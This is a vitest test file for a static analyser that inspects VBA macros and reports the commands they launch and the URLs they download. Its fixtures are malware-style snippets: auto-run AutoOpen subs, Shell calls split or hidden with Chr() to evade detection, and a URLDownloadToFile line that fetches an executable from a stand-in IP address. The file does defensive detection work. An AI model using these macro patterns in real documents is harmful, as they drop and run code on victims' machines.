import { expect, test } from "vitest";
import { MAX_MACRO_LINES, readMacro } from "../../../src/read/binary/read-macro.ts";
import { isMacroSource } from "../../../src/read/kind/macro-source.ts";
import { tell } from "../manifest/tell.ts";

const module = (body: string, name = "AutoOpen"): string =>
  `Attribute VB_Name = "Module1"\r\nSub ${name}()\r\n${body}\r\nEnd Sub\r\n`;
const started = (text: string): readonly (string | null)[] =>
  tell(readMacro, "m.bin", text, "unknown")
    .operations("spawn")
    .flatMap((operation) => (operation.op === "spawn" ? [operation.program.text ?? operation.program.shape] : []));

test.each([
  ["a module", module(""), true],
  ["a procedure", "Private Sub Document_Open()\nEnd Sub\n", true],
  ["prose about one", "A Sub begins with its name.\n", false],
  ["another language", "def sub():\n    pass\n", false],
])("%s: %s", (_name, text, expected) => {
  expect(isMacroSource(text)).toBe(expected);
});

test.each([
  ["Shell", '  Shell "cmd /c calc", vbHide', ["cmd /c calc"]],
  ["Run", '  CreateObject("WScript.Shell").Run "cmd /c calc", 0', ["cmd /c calc"]],
  ["texts in pieces", '  a = "cm" & "d /c "\r\n  Shell a & "calc"', ["cmd /c calc"]],
  ["characters", '  Shell "c" & Chr(109) & ChrW(100) & " /c calc"', ["cmd /c calc"]],
  ["doubled quotes", '  Shell "cmd /c ""my calc"""', ['cmd /c "my calc"']],
  ["what is not known", '  Shell "cmd /c " & Range("A1")', ["cmd /c \u{FFFC}"]],
  ["a message", '  MsgBox "Shell we go?"', []],
])("%s", (_name, body, expected) => {
  expect(started(module(body))).toEqual(expected);
});

test("what it fetches, and that it starts by itself", () => {
  const body = '  Call URLDownloadToFile(0, "http://192.0.2.3/o.exe", "o.exe", 0, 0)';
  const { facts } = tell(readMacro, "m.bin", module(body), "unknown");
  expect(facts).toMatchObject([
    {
      operation: { op: "download", url: { text: "http://192.0.2.3/o.exe" } },
      at: { line: 3 },
      context: { trigger: "load" },
    },
  ]);
  const called = tell(readMacro, "m.bin", module(body, "Prices"), "unknown");
  expect(called.facts).toMatchObject([{ context: { trigger: "call" } }]);
});

test("the command is read on by the reader of its language", () => {
  const told = tell(readMacro, "m.bin", module('  Shell "powershell -c calc"\r\n  Shell "cmd /c calc"'), "unknown");
  expect(told.embedded.map(({ language, text, at }) => `${language} ${text} ${at.line}`)).toEqual([
    "powershell powershell -c calc 3",
    "batch cmd /c calc 4",
  ]);
});

test("lines behind the limit are a gap", () => {
  const text = module("").trimEnd();
  const lines = text.split("\n").length;
  const filled = (more: number): string => `${text}${"\n'".repeat(MAX_MACRO_LINES - lines + more)}`;
  expect(tell(readMacro, "m.bin", filled(0), "unknown").gaps).toEqual([]);
  expect(tell(readMacro, "m.bin", filled(1), "unknown").gaps).toMatchObject([{ code: "too-many", blocking: true }]);
});
